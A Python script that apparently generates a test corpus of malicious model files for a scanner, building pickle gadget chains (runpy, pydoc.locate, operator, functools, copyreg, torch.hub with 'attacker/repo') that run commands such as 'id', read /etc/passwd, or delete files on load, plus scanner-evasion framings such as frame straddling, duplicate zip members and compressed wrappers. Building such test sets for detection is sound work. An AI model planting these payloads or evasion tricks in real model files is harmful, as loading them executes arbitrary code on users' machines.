"""Writes malicious model files of kinds the peers' suites do not have: gadgets
from advisories and write-ups (runpy, pydoc.locate, importlib, code, operator
and functools chains, builtins.getattr, copyreg, _pickle, torch.jit and
torch.package, cloudpickle/dill, BUILD with __setstate__, INST/OBJ, protocol 0
escapes, EXT opcodes, joblib 0.9 zfiles, nested containers), each built with
CPython's pickle opcodes or the real library (torch, numpy, joblib from the
peers' venv when importable).

  .cache/venv-peers/bin/python scripts/peers/make_unseen_malicious.py OUT_DIR

Every file written is malicious: loading it with the library named runs a
command or code, reads or writes files, or imports what the file chooses.
`mirror scan OUT_DIR` must flag each high or critical (exit 1).
"""
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "unseen-malicious"
os.makedirs(OUT, exist_ok=True)
written = []


def put(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    written.append(name)


def u(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def sg(mod, name):  # STACK_GLOBAL
    return u(mod) + u(name) + b"\x93"


def g0(mod, name):  # GLOBAL
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


P4 = b"\x80\x04"
P2 = b"\x80\x02"
CALL1 = b"\x85R"  # TUPLE1 REDUCE

# 1. call gadgets through modules the peers' lists miss or name indirectly
put("runpy_run_path.pkl", P4 + sg("runpy", "run_path") + u("/tmp/x.py") + CALL1 + b".")
put("runpy_run_code.pkl", P4 + sg("runpy", "_run_code") + u("import os;os.system('id')") + u("{}") + b"\x86R.")
put("pydoc_locate.pkl", P4 + sg("pydoc", "locate") + u("os.system") + CALL1 + u("id") + CALL1 + b".")
put("importlib_import_module.pkl", P4 + sg("builtins", "getattr") + sg("importlib", "import_module") + u("os") + CALL1 + u("system") + b"\x86R" + u("id") + CALL1 + b".")
put("code_interactive.pkl", P4 + sg("code", "InteractiveInterpreter") + b")R" + b"\x94" + sg("builtins", "getattr") + b"h\x00" + u("runsource") + b"\x86R" + u("__import__('os').system('id')") + CALL1 + b".")
put("operator_attrgetter.pkl", P4 + sg("operator", "attrgetter") + u("system") + CALL1 + sg("importlib", "import_module") + u("os") + CALL1 + CALL1 + u("id") + CALL1 + b".")
put("operator_methodcaller.pkl", P4 + sg("_operator", "methodcaller") + u("system") + u("id") + b"\x86R" + sg("builtins", "__import__") + u("os") + CALL1 + CALL1 + b".")
put("functools_partial.pkl", P4 + sg("functools", "partial") + sg("os", "system") + u("id") + b"\x86R)R.")
put("functools_reduce.pkl", P4 + sg("functools", "reduce") + sg("builtins", "eval") + b"]" + u("1+1") + b"a" + b"\x86R.")
put("builtins_getattr_import.pkl", P4 + sg("builtins", "getattr") + sg("builtins", "__import__") + u("subprocess") + CALL1 + u("check_output") + b"\x86R" + b"]" + u("id") + b"a" + CALL1 + b".")
put("copyreg_extension.pkl", P4 + sg("copyreg", "add_extension") + u("os") + u("system") + b"J\x39\x30\x00\x00" + b"\x87R0" + b"\x82\x39\x30" + u("id") + CALL1 + b".")
put("ext1_unregistered.pkl", P2 + b"\x82\x01" + b"U\x02id" + CALL1 + b".")
put("ext4_unregistered.pkl", P2 + b"\x84\xff\xff\xff\x7f" + b"U\x02id" + CALL1 + b".")
put("pickle_loads_nested.pkl", P4 + sg("_pickle", "loads") + b"C" + bytes([len(pickle.dumps(0))]) + pickle.dumps(0) + CALL1 + b".")
put("torch_jit_load.pkl", P4 + sg("torch.jit", "load") + u("/tmp/model.pt") + CALL1 + b".")
put("torch_package_importer.pkl", P4 + sg("torch.package", "PackageImporter") + u("/tmp/pkg.zip") + CALL1 + b".")
put("torch_hub_load.pkl", P4 + sg("torch.hub", "load") + u("attacker/repo") + u("model") + b"\x86R.")
put("cloudpickle_subimport.pkl", P4 + sg("builtins", "getattr") + sg("cloudpickle.cloudpickle", "subimport") + u("os") + CALL1 + u("system") + b"\x86R" + u("id") + CALL1 + b".")
put("dill_load_type_exec.pkl", P4 + sg("dill._dill", "_load_type") + u("exec") + CALL1 + u("import os") + CALL1 + b".")
put("numpy_testing_runstring.pkl", P4 + sg("numpy.testing._private.utils", "runstring") + u("import os;os.system('id')") + b"}" + b"\x86R.")
put("asyncio_subprocess.pkl", P4 + sg("asyncio.unix_events", "_UnixSubprocessTransport") + b"N" * 0 + b")R.")
put("ensurepip_run_pip.pkl", P4 + sg("ensurepip", "_run_pip") + b"]" + u("install") + b"a" + CALL1 + b".")
put("idlelib_runcode.pkl", P4 + sg("idlelib.pyshell", "ModifiedInterpreter") + b")R.")
put("lib2to3_pgen.pkl", P4 + sg("lib2to3.pgen2.pgen", "generate_grammar") + u("/etc/passwd") + CALL1 + b".")
put("timeit.pkl", P4 + sg("timeit", "timeit") + u("__import__('os').system('id')") + CALL1 + b".")
put("trace_run.pkl", P4 + sg("trace", "Trace") + b")R.")
put("logging_config_listen.pkl", P4 + sg("logging.config", "listen") + b")R.")
put("pkgutil_resolve_name.pkl", P4 + sg("pkgutil", "resolve_name") + u("os:system") + CALL1 + u("id") + CALL1 + b".")
put("unittest_mock_importer.pkl", P4 + sg("unittest.mock", "_importer") + u("os") + CALL1 + b".")
put("imaplib_stream.pkl", P4 + sg("imaplib", "IMAP4_stream") + u("id") + CALL1 + b".")
put("webbrowser_open.pkl", P4 + sg("webbrowser", "open") + u("file:///etc/passwd") + CALL1 + b".")
put("shutil_rmtree.pkl", P4 + sg("shutil", "rmtree") + u("/tmp/x") + CALL1 + b".")
put("tempfile_mkdtemp.pkl", P4 + sg("tempfile", "mkdtemp") + b")R.")
put("pip_main.pkl", P4 + sg("pip._internal.cli.main", "main") + b"]" + u("install") + b"a" + CALL1 + b".")
put("venv_create.pkl", P4 + sg("venv", "create") + u("/tmp/v") + CALL1 + b".")
put("multiprocessing_util.pkl", P4 + sg("multiprocessing.util", "spawnv_passfds") + u("/bin/sh") + b"]" + u("sh") + b"a" + b")" + b"\x87R.")
put("ctypes_cdll.pkl", P4 + sg("ctypes", "CDLL") + u("libc.so.6") + CALL1 + b".")
put("sys_modules_chain.pkl", P4 + sg("sys", "modules") + b".")
put("torch_attr_chain.pkl", P4 + sg("torch", "serialization.os.system") + u("id") + CALL1 + b".")
put("numpy_attr_chain.pkl", P4 + sg("numpy", "testing._private.utils.os.system") + u("id") + CALL1 + b".")
put("torch_nn_functools.pkl", P4 + sg("torch.nn.modules.module", "functools.partial") + sg("os", "system") + u("id") + b"\x86R)R.")
put("collections_reexport.pkl", P4 + sg("collections", "_sys.modules") + b".")

put("reconstructor_popen.pkl", P2 + g0("copyreg", "_reconstructor") + g0("subprocess", "Popen") + g0("subprocess", "Popen") + b"U\x02id\x87R.")
put("reconstructor_sentence_transformer.pkl", P2 + g0("copyreg", "_reconstructor") + g0("sentence_transformers", "SentenceTransformer") * 2 + b"U\x0dattacker/repo\x87R.")
put("sentence_transformer_call.pkl", P4 + sg("sentence_transformers", "SentenceTransformer") + u("attacker/repo") + CALL1 + b".")
put("pandas_hdfstore_call.pkl", P4 + sg("pandas", "HDFStore") + u("/root/.bashrc") + u("w") + b"\x86R.")

# 2. BUILD and __setstate__: an instance attribute named __setstate__ is called by
# the next BUILD (load_build looks it up on the instance)
put("build_setstate.pkl", P4 + sg("argparse", "Namespace") + b")\x81" + b"}" + u("__setstate__") + sg("os", "system") + b"sb" + u("id") + b"b.")
put("build_setstate_p0.pkl", b"(iargparse\nNamespace\n(dS'__setstate__'\ncos\nsystem\nsbS'id'\nb.")

# 3. INST / OBJ and protocol 0 spellings
put("inst.pkl", b"(S'id'\nios\nsystem\n.")
put("obj.pkl", P2 + b"(" + g0("os", "system") + b"U\x02ido.")
put("p0_unicode_escape.pkl", b"V\\u006f\\u0073\nV\\u0073ystem\n\x93(V\\u0069d\ntR.")
put("p0_python2_names.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.")
put("p0_commands.pkl", b"ccommands\ngetoutput\n(S'id'\ntR.")
put("p0_no_stop.pkl", b"cos\nsystem\n(S'id'\ntR")
put("proto5_bytearray.pkl", b"\x80\x05" + sg("os", "system") + u("id") + CALL1 + b".")
put("memo_indirect.pkl", P4 + u("os") + b"\x94" + u("system") + b"\x94" + b"h\x00h\x01\x93" + u("id") + CALL1 + b".")
put("two_pickles.pkl", pickle.dumps({"w": [1, 2]}) + P4 + sg("os", "system") + u("id") + CALL1 + b".")
put("after_junk.pkl", b"\x00" * 0 + pickle.dumps([1]) + b"junk" + P4 + sg("os", "system") + u("id") + CALL1 + b".")

# 3b. framing that CPython's C unpickler reads differently from parsers
# (cpython#154848, the cases of fickling's test_bypasses.py): an opcode that
# starts inside a FRAME and ends past it, or a FRAME inside a FRAME
def framed(body, declared):
    return b"\x80\x05\x95" + struct.pack("<Q", declared) + body + b"."


hidden = b"cos\nsystem\nVecho pwned\n\x85R"
put("frame_divergence.pkl", b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2)
    + b"B\x07\x01\x00\x00\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1.")
put("frame_straddle_binbytes.pkl", framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5))
put("frame_straddle_short_binunicode.pkl", framed(b"\x8c\x14" + b"A" * 20, 3))
put("frame_straddle_global_module.pkl", framed(b"cmacos\nsystem\n", 4))
put("frame_straddle_unicode.pkl", framed(b"Vhello world\n", 5))
put("frame_straddle_binint.pkl", framed(b"J" + struct.pack("<i", 7), 2))
put("frame_in_frame.pkl", b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N.")

# 4. containers and wrappers
evil = P4 + sg("os", "system") + u("id") + CALL1 + b"."
zf = io.BytesIO()
with zipfile.ZipFile(zf, "w") as z:
    z.writestr("model/data.pkl", evil)
    z.writestr("model/version", "3\n")
put("torch_zip_renamed_dir.pt", zf.getvalue())
zf = io.BytesIO()
with zipfile.ZipFile(zf, "w") as z:
    z.writestr("archive/data.pkl", pickle.dumps({"a": 1}))
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        z.writestr("archive/data.pkl", evil)  # duplicate name: readers take the last
put("zip_duplicate_member.pt", zf.getvalue())
put("zip_prefixed_junk.pt", b"#!/bin/sh\nexit 0\n" + zf.getvalue())
tf = io.BytesIO()
with tarfile.open(fileobj=tf, mode="w") as t:
    for name, data in [("storages", pickle.dumps(0)), ("tensors", pickle.dumps(0)), ("pickle", evil)]:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
put("torch_legacy_tar.pt", tf.getvalue())
header = "ZF%-19s" % hex(len(evil))
put("joblib09_zfile.pkl", header.encode() + zlib.compress(evil))
put("joblib09_zfile_space.pkl", header.encode() + b" " + zlib.compress(evil))
npy_hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
npy_hdr += b" " * (64 - 10 - len(npy_hdr) - 1) + b"\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_hdr)) + npy_hdr + evil
put("object_array.npy", npy)
zf = io.BytesIO()
with zipfile.ZipFile(zf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("weights.npy", npy)
put("object_array.npz", zf.getvalue())
put("gzip_pickle.pkl.gz", __import__("gzip").compress(evil))
put("bz2_pickle.pkl.bz2", __import__("bz2").compress(evil))
put("xz_pickle.pkl.xz", __import__("lzma").compress(evil))
put("lzma_alone.pkl.lzma", __import__("lzma").compress(evil, format=__import__("lzma").FORMAT_ALONE))

# 5. with the real libraries, when importable
try:
    import numpy as np

    class R:
        def __reduce__(self):
            return os.system, ("id",)

    a = np.empty(2, dtype=object)
    a[0] = R()
    buf = io.BytesIO()
    np.save(buf, a, allow_pickle=True)
    put("numpy_save_object.npy", buf.getvalue())
except ImportError:
    pass
try:
    import joblib

    class R2:
        def __reduce__(self):
            return eval, ("__import__('os').system('id')",)

    objarr = np.empty(3, dtype=object)
    objarr[1] = R2()
    for comp in [0, 3]:  # CVE-2024-34997: NumpyArrayWrapper pickles object arrays
        p = os.path.join(OUT, "joblib_object_array_c%d.joblib" % comp)
        joblib.dump({"arr": objarr, "w": np.zeros(100)}, p, compress=comp)
        written.append(os.path.basename(p))
    for comp in [None, "zlib", "gzip", "bz2", "xz", "lzma"]:
        p = os.path.join(OUT, "joblib_%s.joblib" % (comp or "raw"))
        joblib.dump({"model": R2()}, p, compress=(comp, 3) if comp else 0)
        written.append(os.path.basename(p))
except ImportError:
    pass
try:
    import torch

    class R3:
        def __reduce__(self):
            return exec, ("import os; os.system('id')",)

    for legacy in (False, True):
        p = os.path.join(OUT, "torch_%s.pt" % ("legacy" if legacy else "zip"))
        torch.save({"w": torch.zeros(2), "x": R3()}, p, _use_new_zipfile_serialization=not legacy)
        written.append(os.path.basename(p))
except ImportError:
    pass
try:
    import cloudpickle

    put("cloudpickle_lambda.pkl", cloudpickle.dumps(lambda: os.system("id")))
except ImportError:
    pass
try:
    import dill

    put("dill_lambda.pkl", dill.dumps(lambda: os.system("id")))
except ImportError:
    pass

print("\n".join(sorted(written)))
